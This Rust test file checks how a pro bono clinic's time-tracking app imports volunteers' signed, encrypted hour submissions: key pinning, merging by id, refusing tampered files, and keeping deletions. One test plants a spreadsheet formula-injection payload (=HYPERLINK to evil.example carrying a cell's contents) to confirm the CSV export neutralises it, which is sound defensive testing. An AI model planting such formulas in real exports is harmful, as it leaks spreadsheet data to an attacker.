//! Hours from another computer: a volunteer's signed, encrypted submission merged by the
//! coordinator; the key pinned on first import; entries merged by id.

use probono_core::Store;
use probono_core::model::{ClientDraft, MatterDraft, TimeEntryDraft, VolunteerDraft};
use probono_core::reports::Period;
use probono_core::submission::{SubmissionOptions, SubmissionOutcome, SubmissionSummary};
use probono_core::task::TaskContext;

use crate::new_vault;

fn import(store: &mut Store, file: &[u8], options: &SubmissionOptions) -> probono_core::Result<SubmissionOutcome> {
    store.import_submission(file, options, &TaskContext::silent())
}

/// The summary of an import that wrote its entries (anything else fails the test).
fn imported(outcome: probono_core::Result<SubmissionOutcome>) -> SubmissionSummary {
    match outcome {
        Ok(SubmissionOutcome::Imported { summary }) => summary,
        other => panic!("expected the entries to be imported, got {other:?}"),
    }
}

fn matter(store: &mut Store, case_ref: &str) {
    store.create_client(&ClientDraft { name: format!("Client of {case_ref}"), ..Default::default() }).expect("client");
    store
        .create_matter(&MatterDraft {
            case_ref: Some(case_ref.into()),
            client: format!("Client of {case_ref}"),
            case_type: "asylum".into(),
            opened: "2026-01-01".into(),
            ..Default::default()
        })
        .expect("matter");
}

fn volunteer(store: &mut Store) {
    store
        .create_volunteer(&VolunteerDraft {
            name: "Priya Sharma".into(),
            email: Some("psharma@example.org".into()),
            organization: Some("Hale Street LLP".into()),
            role: "attorney".into(),
            ..Default::default()
        })
        .expect("volunteer");
}

fn log(store: &mut Store, case_ref: &str, date: &str, hours: &str) {
    store
        .log_time(&TimeEntryDraft {
            volunteer: "psharma@example.org".into(),
            matter: case_ref.into(),
            date: date.into(),
            hours: hours.into(),
            activity: Some("Drafting".into()),
        })
        .expect("log");
}

fn spring() -> Period {
    Period::between("2026-03-01", "2026-05-31").expect("period")
}

#[test]
fn a_submission_is_accepted_once_confirmed_and_merges_by_id() {
    let (_c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    assert!(program_key.starts_with("age1"));
    assert_eq!(coord.program_key().expect("again"), program_key, "made once, then kept");

    let (_v, vol) = new_vault();
    let mut vol = vol.store;
    matter(&mut vol, "JC-1");
    volunteer(&mut vol);
    log(&mut vol, "JC-1", "2026-03-02", "1.5");
    log(&mut vol, "JC-1", "2026-04-10", "2");
    log(&mut vol, "JC-1", "2026-06-01", "9"); // outside the period
    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let fingerprint = vol.signing_fingerprint().expect("fingerprint");

    // First time: the coordinator must confirm the fingerprint.
    let asked = import(&mut coord, &file, &SubmissionOptions::default()).expect("asks to confirm");
    assert_eq!(
        asked,
        SubmissionOutcome::ConfirmKey { volunteer: "Priya Sharma".into(), fingerprint: fingerprint.clone() }
    );
    assert_eq!(coord.list_time(&Default::default()).expect("list").len(), 0, "nothing imported before confirming");
    let opts = SubmissionOptions { accept_fingerprint: Some(fingerprint.to_lowercase()), ..Default::default() };
    let first = imported(import(&mut coord, &file, &opts));
    assert!(first.key_accepted && first.volunteer_created);
    assert_eq!((first.created, first.updated, first.unchanged), (2, 0, 0));

    // The same file again changes nothing (and needs no confirmation now).
    let again = imported(import(&mut coord, &file, &SubmissionOptions::default()));
    assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 2));

    // A corrected resubmission updates the entry, matched by id.
    let entry =
        vol.list_time(&Default::default()).expect("list").into_iter().find(|e| e.date == "2026-04-10").expect("entry");
    vol.delete_time_entry(entry.id).expect("delete");
    log(&mut vol, "JC-1", "2026-04-10", "2.5");
    let corrected = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit again");
    let merged = imported(import(&mut coord, &corrected, &SubmissionOptions::default()));
    assert_eq!(merged.created, 1, "the re-logged entry has a new id");
    let coord_entries = coord.list_time(&Default::default()).expect("list");
    assert_eq!(coord_entries.len(), 3);
    let ids: Vec<_> = coord_entries.iter().map(|e| e.id).collect();
    for e in vol.list_time(&Default::default()).expect("list").iter().filter(|e| e.date.as_str() < "2026-06-01") {
        assert!(ids.contains(&e.id), "ids are kept across computers");
    }
}

#[test]
fn an_edited_entry_updates_the_coordinators_copy() {
    let (_c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    let (_v, vol) = new_vault();
    let mut vol = vol.store;
    matter(&mut vol, "JC-1");
    volunteer(&mut vol);
    log(&mut vol, "JC-1", "2026-03-02", "1.5");
    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let fp = vol.signing_fingerprint().expect("fp");
    imported(import(&mut coord, &file, &SubmissionOptions { accept_fingerprint: Some(fp), ..Default::default() }));
    // The volunteer corrects the hours in place (same id, later updated_at).
    let entry = vol.list_time(&Default::default()).expect("list").remove(0);
    vol.conn()
        .execute("UPDATE time_entry SET minutes = 120, updated_at = '2099-01-01T00:00:00Z' WHERE id = ?1", [entry.id])
        .expect("edit");
    let corrected = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let merged = imported(import(&mut coord, &corrected, &SubmissionOptions::default()));
    assert_eq!((merged.created, merged.updated), (0, 1));
    assert_eq!(coord.time_entry(entry.id).expect("entry").minutes, 120);
}

#[test]
fn another_key_for_the_same_volunteer_is_refused() {
    let (_c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    let submit_from_new_vault = || {
        let (dir, vol) = new_vault();
        let mut vol = vol.store;
        matter(&mut vol, "JC-1");
        volunteer(&mut vol);
        log(&mut vol, "JC-1", "2026-03-02", "1");
        let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
        (dir, file, vol.signing_fingerprint().expect("fp"))
    };
    let (_d1, first, fp1) = submit_from_new_vault();
    imported(import(&mut coord, &first, &SubmissionOptions { accept_fingerprint: Some(fp1), ..Default::default() }));
    let (_d2, impostor, fp2) = submit_from_new_vault();
    let err = import(&mut coord, &impostor, &SubmissionOptions { accept_fingerprint: Some(fp2), ..Default::default() })
        .expect_err("a different key is refused even when 'accepted'");
    assert_eq!(err.code(), probono_core::ErrorCode::SigningKeyChanged, "{err}");
    assert!(err.to_string().contains("different key"), "{err}");
    // The coordinator confirms the volunteer really has a new computer, resets, and accepts.
    assert!(coord.reset_volunteer_key("psharma@example.org").expect("reset"));
    let (_d3, renewed, fp3) = submit_from_new_vault();
    let first_again = import(&mut coord, &renewed, &SubmissionOptions::default()).expect("asks again");
    assert!(matches!(first_again, SubmissionOutcome::ConfirmKey { .. }), "{first_again:?}");
    imported(import(&mut coord, &renewed, &SubmissionOptions { accept_fingerprint: Some(fp3), ..Default::default() }));
}

#[test]
fn unknown_matters_are_listed_and_can_be_mapped() {
    let (_c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    let (_v, vol) = new_vault();
    let mut vol = vol.store;
    matter(&mut vol, "MY-7");
    volunteer(&mut vol);
    log(&mut vol, "MY-7", "2026-03-02", "1");
    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let fp = vol.signing_fingerprint().expect("fp");
    let asked =
        import(&mut coord, &file, &SubmissionOptions { accept_fingerprint: Some(fp.clone()), ..Default::default() })
            .expect("the unknown matter is listed");
    let map_my7 =
        SubmissionOutcome::MapCaseRefs { volunteer: "Priya Sharma".into(), unknown_case_refs: vec!["MY-7".to_owned()] };
    assert_eq!(asked, map_my7);
    // A mapping to a matter this vault does not have either is listed again.
    let wrong = SubmissionOptions { accept_fingerprint: Some(fp.clone()), map: vec![("MY-7".into(), "JC-404".into())] };
    assert_eq!(import(&mut coord, &file, &wrong).expect("listed"), map_my7);
    assert_eq!(
        coord.list_time(&Default::default()).expect("list").len(),
        0,
        "nothing dropped silently, nothing imported"
    );
    let opts = SubmissionOptions { accept_fingerprint: Some(fp), map: vec![("MY-7".into(), "JC-1".into())] };
    let mapped = imported(import(&mut coord, &file, &opts));
    assert_eq!(mapped.created, 1);
}

#[test]
fn a_tampered_or_misaddressed_submission_is_refused() {
    let (_c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    let (_o, other) = new_vault();
    let mut other = other.store;
    let other_key = other.program_key().expect("other program");
    let (_v, vol) = new_vault();
    let mut vol = vol.store;
    matter(&mut vol, "JC-1");
    volunteer(&mut vol);
    log(&mut vol, "JC-1", "2026-03-02", "1");
    let misaddressed = vol.submit_hours("psharma@example.org", spring(), &other_key).expect("submit");
    let err = import(&mut coord, &misaddressed, &SubmissionOptions::default()).expect_err("not for us");
    assert!(err.to_string().contains("another program"), "{err}");
    let mut tampered = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let n = tampered.len();
    tampered[n - 20] ^= 1;
    assert!(import(&mut coord, &tampered, &SubmissionOptions::default()).is_err());
    assert!(vol.submit_hours("psharma@example.org", spring(), "not-a-key").is_err());
}

/// A coordinator's vault with matter JC-1 and its program key, and a volunteer's vault with
/// JC-1, the volunteer Priya Sharma and one hour logged on 2026-03-02.
struct Pair {
    _dirs: (tempfile::TempDir, tempfile::TempDir),
    coord: Store,
    vol: Store,
    program_key: String,
}

fn pair() -> Pair {
    let (c, coordinator) = new_vault();
    let mut coord = coordinator.store;
    matter(&mut coord, "JC-1");
    let program_key = coord.program_key().expect("program key");
    let (v, vol) = new_vault();
    let mut vol = vol.store;
    matter(&mut vol, "JC-1");
    volunteer(&mut vol);
    log(&mut vol, "JC-1", "2026-03-02", "1");
    Pair { _dirs: (c, v), coord, vol, program_key }
}

/// Plants `activity` on every entry of the volunteer's vault behind the store's back, the
/// way a modified program (or a hand-made file signed with the volunteer's key) could.
fn plant_activity(store: &Store, activity: &str) {
    let n = store.conn().execute("UPDATE time_entry SET activity = ?1", [activity]).expect("plant");
    assert!(n > 0, "the planted text reached no entry");
}

#[test]
fn submitted_text_is_checked_like_typed_text_and_nothing_is_written_when_it_fails() {
    let Pair { _dirs, mut coord, mut vol, program_key } = pair();
    let fp = vol.signing_fingerprint().expect("fingerprint");
    let accept = SubmissionOptions { accept_fingerprint: Some(fp), ..Default::default() };
    let entries =
        |s: &Store| -> i64 { s.conn().query_row("SELECT count(*) FROM time_entry", [], |r| r.get(0)).expect("count") };

    for (bad, why) in [("Call\u{0007}client", "control characters"), (&*"x".repeat(100_001), "at most")] {
        plant_activity(&vol, bad);
        let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
        let err = import(&mut coord, &file, &accept).expect_err("bad activity refused");
        let text = err.to_string();
        assert!(text.contains("record 1") && text.contains("activity") && text.contains(why), "{text}");
        assert!(!text.contains("Call"), "the refused text is not echoed: {text}");
        assert_eq!(entries(&coord), 0, "nothing written");
    }

    // A formula is ordinary text to the vault; it is neutralised where it leaves as CSV.
    plant_activity(&vol, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    assert_eq!(imported(import(&mut coord, &file, &accept)).created, 1);
    let out = tempfile::tempdir().expect("out");
    coord
        .export_records(
            out.path(),
            probono_core::exchange::ExportFormat::Csv,
            &probono_core::task::TaskContext::silent(),
        )
        .expect("export");
    let csv = std::fs::read_to_string(out.path().join("time_entries.csv")).expect("csv");
    assert!(csv.contains(",\"'=HYPERLINK("), "the formula is quoted: {csv}");
    assert!(!csv.contains(",=HYPERLINK(") && !csv.contains(",\"=HYPERLINK("), "{csv}");
}

#[test]
fn an_old_submission_imported_again_does_not_bring_back_what_was_deleted_here() {
    let Pair { _dirs, mut coord, mut vol, program_key } = pair();
    log(&mut vol, "JC-1", "2026-03-03", "2");
    let file = vol.submit_hours("psharma@example.org", spring(), &program_key).expect("submit");
    let accept =
        SubmissionOptions { accept_fingerprint: Some(vol.signing_fingerprint().expect("fp")), ..Default::default() };
    assert_eq!(imported(import(&mut coord, &file, &accept)).created, 2);

    // The coordinator deletes one (logged by mistake); the same file comes in again.
    let gone =
        coord.list_time(&Default::default()).expect("list").into_iter().find(|e| e.date == "2026-03-03").expect("e");
    coord.delete_time_entry(gone.id).expect("delete");
    let again = imported(import(&mut coord, &file, &SubmissionOptions::default()));
    assert_eq!((again.created, again.updated, again.unchanged, again.deleted_here), (0, 0, 1, 1));
    let left = coord.list_time(&Default::default()).expect("list");
    assert_eq!(left.len(), 1, "the deleted entry stays deleted");
    assert!(left.iter().all(|e| e.id != gone.id));

    // The record of the deletion leaves with a JSON export and comes back with it.
    let out = tempfile::tempdir().expect("out");
    coord
        .export_records(out.path(), probono_core::exchange::ExportFormat::Json, &TaskContext::silent())
        .expect("export");
    let deleted = std::fs::read_to_string(out.path().join("deleted_time_entries.json")).expect("file");
    assert!(deleted.contains(&gone.id.to_string()), "{deleted}");
    let (_n, fresh) = new_vault();
    let mut fresh = fresh.store;
    fresh.import_export(out.path(), &TaskContext::silent()).expect("import the export");
    let kept: i64 = fresh
        .conn()
        .query_row("SELECT count(*) FROM deleted_time_entry WHERE id = ?1", [gone.id], |r| r.get(0))
        .expect("count");
    assert_eq!(kept, 1);
}
